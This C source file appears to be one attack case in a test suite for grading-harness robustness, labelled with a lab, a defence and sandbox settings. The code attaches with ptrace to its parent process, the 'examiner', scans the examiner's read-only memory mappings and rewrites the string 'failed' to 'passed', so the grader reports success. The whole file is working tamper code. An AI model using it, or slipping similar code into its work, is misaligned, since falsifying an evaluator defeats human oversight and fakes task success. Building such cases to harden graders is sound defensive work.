// Attack:  traces the examiner and has it say "passed" for "failed"
// Lab:     fork
// Defence: unreadable-examiner
// Without: points
// Where:   bubblewrap own user user-own
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

// Words of eight bytes: "failed" may begin in any of their bytes.
static void patch(pid_t pid, unsigned long first, unsigned long end) {
  char window[16] = "";
  for (unsigned long at = first; at < end; at += 8) {
    errno = 0;
    const long word = ptrace(PTRACE_PEEKDATA, pid, at, 0);
    if (errno != 0) return;
    memcpy(window, window + 8, 8);
    memcpy(window + 8, &word, 8);
    for (int start = 0; start < 8 && at > first; ++start) {
      if (memcmp(window + start, "failed", 7) != 0) continue;
      memcpy(window + start, "passed", 6);
      long halves[2];
      memcpy(halves, window, sizeof halves);
      ptrace(PTRACE_POKEDATA, pid, at - 8, halves[0]);
      ptrace(PTRACE_POKEDATA, pid, at, halves[1]);
    }
  }
}

int main(void) {
  const pid_t examiner = getppid();
  char line[512];
  if (ptrace(PTRACE_ATTACH, examiner, 0, 0) < 0) return 1;
  waitpid(examiner, NULL, 0);
  snprintf(line, sizeof line, "/proc/%d/maps", (int)examiner);
  FILE* maps = fopen(line, "r");
  while (maps && fgets(line, sizeof line, maps)) {
    unsigned long first, end;
    char rights[5];
    if (sscanf(line, "%lx-%lx %4s", &first, &end, rights) != 3) continue;
    if (strcmp(rights, "r--p") == 0) patch(examiner, first, end);
  }
  ptrace(PTRACE_DETACH, examiner, 0, 0);
  return 1;
}
